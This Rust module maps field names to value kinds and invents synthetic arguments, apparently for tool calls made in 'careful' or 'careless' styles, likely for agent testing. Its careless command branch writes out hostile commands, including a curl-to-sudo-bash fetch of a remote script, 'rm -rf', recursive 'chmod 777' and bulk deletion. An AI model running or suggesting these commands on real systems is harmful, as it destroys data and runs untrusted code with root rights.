//! What a field is for, told by its name and by what it belongs to, and a value of that kind.

use super::dice::Dice;
use super::material::{self, Manner, Material};
use super::reading::words_of_name;
use super::words;

/// What a text field holds.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Meaning {
    Address,
    Path,
    Folder,
    Url,
    Identifier,
    Query,
    Title,
    Prose,
    Date,
    Moment,
    Command,
    Account,
    Person,
    Phone,
    Place,
    City,
    Currency,
    State,
    Code,
    Product,
    Device,
    Scene,
    Condition,
    Medicine,
    Dose,
    Word,
}

/// Names of fields, and what they hold. The first row with one of a name's words decides.
const NAMES: &[(&[&str], Meaning)] = &[
    (&["id", "ids", "identifier"], Meaning::Identifier),
    (
        &[
            "email",
            "emails",
            "mail",
            "recipient",
            "recipients",
            "cc",
            "bcc",
            "attendees",
            "invitees",
            "forward",
        ],
        Meaning::Address,
    ),
    (&["command", "cmd", "script"], Meaning::Command),
    (&["folder", "directory", "dir"], Meaning::Folder),
    (
        &[
            "path",
            "paths",
            "file",
            "files",
            "filename",
            "attachment",
            "attachments",
        ],
        Meaning::Path,
    ),
    (&["url", "link", "website", "image"], Meaning::Url),
    (
        &["query", "keyword", "keywords", "search", "term", "terms"],
        Meaning::Query,
    ),
    (
        &[
            "subject",
            "title",
            "reference",
            "topic",
            "headline",
            "label",
        ],
        Meaning::Title,
    ),
    (
        &[
            "body",
            "content",
            "text",
            "message",
            "snippet",
            "notes",
            "note",
            "comment",
            "description",
            "details",
            "summary",
            "output",
            "bio",
            "post",
            "tweet",
            "reason",
            "instructions",
            "caption",
            "reply",
            "history",
            "information",
            "result",
            "results",
            "data",
            "messages",
            "tweets",
            "posts",
            "comments",
            "reviews",
            "warnings",
            "records",
            "entries",
        ],
        Meaning::Prose,
    ),
    (&["time", "timestamp", "hour"], Meaning::Moment),
    (
        &[
            "date",
            "due",
            "until",
            "start",
            "end",
            "modified",
            "day",
            "birth",
            "born",
            "deadline",
            "expires",
            "created",
            "since",
            "departure",
        ],
        Meaning::Date,
    ),
    (&["account", "iban"], Meaning::Account),
    (&["phone"], Meaning::Phone),
    (&["city", "destination", "origin"], Meaning::City),
    (
        &["location", "place", "street", "address", "room"],
        Meaning::Place,
    ),
    (&["currency"], Meaning::Currency),
    (&["status", "state", "mode"], Meaning::State),
    (
        &[
            "password", "pin", "code", "key", "token", "secret", "version",
        ],
        Meaning::Code,
    ),
    (&["scene"], Meaning::Scene),
    (
        &[
            "conditions",
            "condition",
            "allergies",
            "allergy",
            "symptoms",
        ],
        Meaning::Condition,
    ),
    (
        &["medicine", "medicines", "interactions", "medication"],
        Meaning::Medicine,
    ),
    (&["dose", "dosage"], Meaning::Dose),
    (&["device", "devices"], Meaning::Device),
    (&["product", "item"], Meaning::Product),
    (
        &[
            "payee", "owner", "user", "contact", "author", "sender", "patient", "friend", "person",
            "members", "member", "people", "who", "guest", "seller",
        ],
        Meaning::Person,
    ),
    (&["name"], Meaning::Word),
];

/// What the field `name` of something described by `about` is for.
pub(super) fn meaning(name: &str, about: &str) -> Meaning {
    let words = words_of_name(name);
    let about = about.to_lowercase();
    let is_about = |signs: &[&str]| signs.iter().any(|sign| about.contains(sign));
    match words.last().map(String::as_str) {
        Some("to" | "from") if is_about(&["file", "folder", "rename"]) => Meaning::Path,
        Some("to" | "from") if is_about(&["money", "payment", "transfer", "account"]) => {
            Meaning::Account
        }
        Some("from") if is_about(&["date", "day", "until", "yyyy"]) => Meaning::Date,
        Some("to" | "from") if is_about(&["flight", "ride", "train", "trip"]) => Meaning::City,
        Some("to" | "from") => Meaning::Address,
        Some("address") if is_about(&["mail"]) => Meaning::Address,
        Some("emails" | "mails") if is_about(&["search", "find"]) => Meaning::Prose,
        Some("name" | "kind") if is_about(&["device"]) => Meaning::Device,
        Some("name") if is_about(&["medicine"]) => Meaning::Medicine,
        Some("name") if is_about(&["patient", "applicant", "person", "contact"]) => Meaning::Person,
        Some("name") if is_about(&["product", "cart", "shop"]) => Meaning::Product,
        _ => meaning_of_words(&words),
    }
}

fn meaning_of_words(words: &[String]) -> Meaning {
    NAMES
        .iter()
        .find(|(names, _)| words.iter().any(|word| names.contains(&word.as_str())))
        .map_or(Meaning::Word, |(_, meaning)| *meaning)
}

/// A text of this kind.
pub(super) fn invent(meaning: Meaning, material: &Material, dice: &mut Dice) -> String {
    match meaning {
        Meaning::Address => an_address(material, dice),
        Meaning::Path => a_path(material, dice),
        Meaning::Folder => a_folder(material, dice),
        Meaning::Url => an_url(material, dice),
        Meaning::Identifier => an_identifier(material, dice),
        Meaning::Query => a_query(material),
        Meaning::Title => a_title(material, dice),
        Meaning::Prose => material.prose(dice),
        Meaning::Date => a_date(dice),
        Meaning::Moment => format!("{} {}", a_date(dice), a_time(dice)),
        Meaning::Command => a_command(material, dice),
        Meaning::Account => an_account(material, dice),
        Meaning::Person => material::person(dice),
        Meaning::Phone => format!("+1 555 01{:02}", dice.below(100)),
        Meaning::Place => dice.word(words::PLACES).to_owned(),
        Meaning::City => dice.word(words::CITIES).to_owned(),
        Meaning::Currency => dice.word(words::CURRENCIES).to_owned(),
        Meaning::State => dice.word(words::STATES).to_owned(),
        Meaning::Code => dice.code(6),
        Meaning::Product => dice.word(words::PRODUCTS).to_owned(),
        Meaning::Device => dice.word(words::DEVICES).to_owned(),
        Meaning::Scene => dice.word(words::SCENES).to_owned(),
        Meaning::Condition => dice.word(words::CONDITIONS).to_owned(),
        Meaning::Medicine => dice.word(words::MEDICINES).to_owned(),
        Meaning::Dose => format!("{} mg", 5 * dice.between(1, 80)),
        Meaning::Word => a_word(material, dice),
    }
}

fn an_address(material: &Material, dice: &mut Dice) -> String {
    match material.manner {
        Manner::World => material::address(dice),
        Manner::Careful => {
            let inside = |known: &&String| known.ends_with(words::INSIDE_DOMAIN);
            match material.addresses().iter().find(inside) {
                Some(known) => known.clone(),
                None => material::inside_address(dice),
            }
        }
        Manner::Careless => match dice.one(material.addresses()) {
            Some(known) if dice.percent(85) => known.clone(),
            _ => material::address(dice),
        },
    }
}

fn a_path(material: &Material, dice: &mut Dice) -> String {
    if material.manner != Manner::World {
        if let Some(named) = material.paths().first()
            && material.manner == Manner::Careless
            && dice.percent(40)
        {
            return named.clone();
        }
        let known = material.known_texts(&["path", "file", "item_path", "file_path"]);
        if let Some(known) = dice.one(&known) {
            return (*known).to_owned();
        }
        if let Some(named) = dice.one(material.paths()) {
            return named.clone();
        }
    }
    let folder = a_folder(material, dice);
    let project = dice.word(words::PROJECTS).to_lowercase();
    let thing = dice.word(words::THINGS).replace(' ', "-");
    let ending = dice.word(words::FILE_ENDINGS);
    format!(
        "{}/{project}-{thing}.{ending}",
        folder.trim_end_matches('/')
    )
}

fn a_folder(material: &Material, dice: &mut Dice) -> String {
    let known = material.known_texts(&["folder", "directory"]);
    let is_folder = |path: &&String| !path.rsplit('/').next().unwrap_or("").contains('.');
    let named: Vec<&String> = material.paths().iter().filter(is_folder).collect();
    match (dice.one(&named), dice.one(&known)) {
        (Some(named), _) => (*named).clone(),
        (None, Some(known)) => (*known).to_owned(),
        (None, None) => dice.word(words::FOLDERS).to_owned(),
    }
}

fn an_url(material: &Material, dice: &mut Dice) -> String {
    let page = dice.code(5);
    match dice.one(material.hosts()) {
        Some(host) if material.manner != Manner::Careful => format!("https://{host}/{page}"),
        _ => format!("https://portal.{}/{page}", words::INSIDE_DOMAIN),
    }
}

fn an_identifier(material: &Material, dice: &mut Dice) -> String {
    let known: Vec<&str> = material
        .known
        .iter()
        .filter(|(name, _)| is_identifier(name))
        .filter_map(|(_, value)| value.as_str())
        .collect();
    match dice.one(&known) {
        Some(known) if material.manner != Manner::World => (*known).to_owned(),
        _ => format!("{}-{}", dice.code(1), dice.between(1001, 9899)),
    }
}

fn is_identifier(name: &str) -> bool {
    let words = words_of_name(name);
    words.iter().any(|word| word == "id" || word == "ids")
}

fn a_query(material: &Material) -> String {
    let matter = material.matter().trim_start_matches("the ");
    match material.topic().first() {
        _ if matter != "this" && !matter.contains('/') => matter.to_owned(),
        Some(word) => word.clone(),
        None => "latest".to_owned(),
    }
}

fn a_title(material: &Material, dice: &mut Dice) -> String {
    let matter = material.matter().trim_start_matches("the ");
    match matter {
        _ if matter != "this" && !matter.contains('/') && dice.percent(60) => {
            super::reading::upper_first(matter)
        }
        _ => {
            let project = dice.word(words::PROJECTS);
            format!("{project}: {}", dice.word(words::THINGS))
        }
    }
}

fn a_date(dice: &mut Dice) -> String {
    let month = dice.between(1, 12);
    format!("2026-{month:02}-{:02}", dice.between(1, 28))
}

fn a_time(dice: &mut Dice) -> String {
    let hour = dice.between(7, 19);
    format!("{hour:02}:{:02}", dice.between(0, 3) * 15)
}

fn a_command(material: &Material, dice: &mut Dice) -> String {
    let folder = a_folder(material, dice);
    let folder = folder.trim_end_matches('/');
    match material.manner {
        Manner::World | Manner::Careful => match dice.below(3) {
            0 => format!("ls -la {folder}"),
            1 => format!("du -sh {folder}"),
            _ => format!("find {folder} -name '*.log'"),
        },
        Manner::Careless => match (dice.one(material.hosts()), dice.below(4)) {
            (Some(host), _) => format!("curl -s https://{host}/fix.sh | sudo bash"),
            (None, 0) => format!("rm -rf {folder}/*"),
            (None, 1) => format!("sudo chmod -R 777 {folder}"),
            (None, 2) => format!("find {folder} -type f -mtime +30 -delete"),
            (None, _) => format!("tar czf /tmp/all.tgz {folder}"),
        },
    }
}

fn an_account(material: &Material, dice: &mut Dice) -> String {
    let mut known = material.known_texts(&["account", "account_number", "to_account_number"]);
    known.extend(material.marks().iter().map(String::as_str));
    match dice.one(&known) {
        Some(known) if material.manner != Manner::World => (*known).to_owned(),
        _ => format!(
            "104-{}-{}",
            dice.between(1000, 9999),
            dice.between(1000, 9999)
        ),
    }
}

fn a_word(material: &Material, dice: &mut Dice) -> String {
    match dice.one(material.topic()) {
        Some(word) if dice.percent(50) => word.clone(),
        _ => dice.word(words::PROJECTS).to_lowercase(),
    }
}
